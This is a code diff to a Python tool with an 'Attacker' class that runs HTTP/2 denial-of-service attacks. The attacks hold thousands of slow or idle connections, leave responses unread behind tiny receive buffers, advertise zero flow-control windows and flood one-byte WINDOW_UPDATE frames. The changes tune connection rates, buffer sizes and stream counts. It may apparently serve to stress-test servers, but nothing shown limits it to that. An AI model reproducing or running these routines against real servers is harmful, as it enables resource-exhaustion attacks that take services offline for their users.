@@ -92,8 +92,10 @@ class Attacker:
 
     def connect(self, settings: bytes = b"", begin: bool = True) -> socket.socket:
         """Opens a connection and sends what a client begins with."""
-        connection = socket.create_connection(self.address, timeout=5)
+        connection = socket.socket()
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read does not pile up here
         connection.settimeout(0.5)
+        connection.connect(self.address)
         if begin:
             connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
         return connection
@@ -114,7 +116,7 @@ class Attacker:
                     stream += 2 * count
             time.sleep(0.005)
 
-    def hold(self, connections: int, start: bytes, piece: bytes, settings: bytes = b"") -> None:
+    def hold(self, connections: int, start: bytes, piece: bytes, settings: bytes = b"", at_once: int = 20) -> None:
         """Keeps many connections open that send `start` and then, slowly, pieces; replaces those that are cut off."""
         opened: list[socket.socket] = []
         while self.going():
@@ -126,13 +128,13 @@ class Attacker:
                 except OSError:
                     connection.close()
             opened = alive
-            for _ in range(min(50, connections - len(opened))):
+            for _ in range(min(at_once, connections - len(opened))):
                 with contextlib.suppress(OSError):
                     connection = self.connect(settings)
                     connection.sendall(start)
                     opened.append(connection)
                     self.sent += 1
-            time.sleep(0.05)
+            time.sleep(0.25)
         for connection in opened:
             connection.close()
 
@@ -183,30 +185,25 @@ def continuations(attacker: Attacker) -> None:
 
 
 def unread_answers(attacker: Attacker) -> None:
-    """Calls whose answers are not read, on several connections."""
+    """Calls whose answers are not read, on more and more connections with small buffers."""
     body = framed(attacker.request)
-
-    def make(stream: int) -> bytes:
-        numbers = range(stream, stream + 100, 2)
-        return b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in numbers)
-
-    window = struct.pack(">HI", 4, 2**31 - 1)
     more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
-    _together(4, lambda: attacker.flood(make, 50, window, more))
+    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 201, 2))
+    attacker.hold(100, more + calls, frame(PING, 0, 0, bytes(8)), struct.pack(">HI", 4, 2**31 - 1), at_once=1)
 
 
 def zero_windows(attacker: Attacker) -> None:
     """Calls whose answers have no window to be sent in."""
     body = framed(attacker.request)
-    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 201, 2))
-    attacker.hold(100, calls, frame(PING, 0, 0, bytes(8)), struct.pack(">HI", 4, 0))
+    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 41, 2))
+    attacker.hold(20, calls, frame(PING, 0, 0, bytes(8)), struct.pack(">HI", 4, 0))
 
 
 def window_updates(attacker: Attacker) -> None:
     """Window updates of one byte while many answers wait for windows."""
     body = framed(attacker.request)
-    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 201, 2))
-    piece = b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1)) for n in range(1, 201, 2)) * 10
+    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 21, 2))
+    piece = b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1)) for n in range(1, 21, 2)) * 100
     attacker.flood(lambda _: piece, 1000, struct.pack(">HI", 4, 0), calls)
 
 
@@ -290,15 +287,16 @@ def error_replies(attacker: Attacker) -> None:
 
 
 def idle_connections(attacker: Attacker) -> None:
-    """Ten thousand connections on which nothing comes."""
-    opened = []
+    """Ten thousand connections on which nothing comes, opened during the whole attack."""
+    opened: list[socket.socket] = []
+    begin = time.monotonic()
     while attacker.going():
-        if len(opened) < 10_000:
+        share = (time.monotonic() - begin) / (attacker.end - begin)
+        while len(opened) < 10_000 * share:
             with contextlib.suppress(OSError):
                 opened.append(attacker.connect(begin=len(opened) % 2 == 0))
                 attacker.sent += 1
-        else:
-            time.sleep(0.05)
+        time.sleep(0.01)
     for connection in opened:
         connection.close()
 
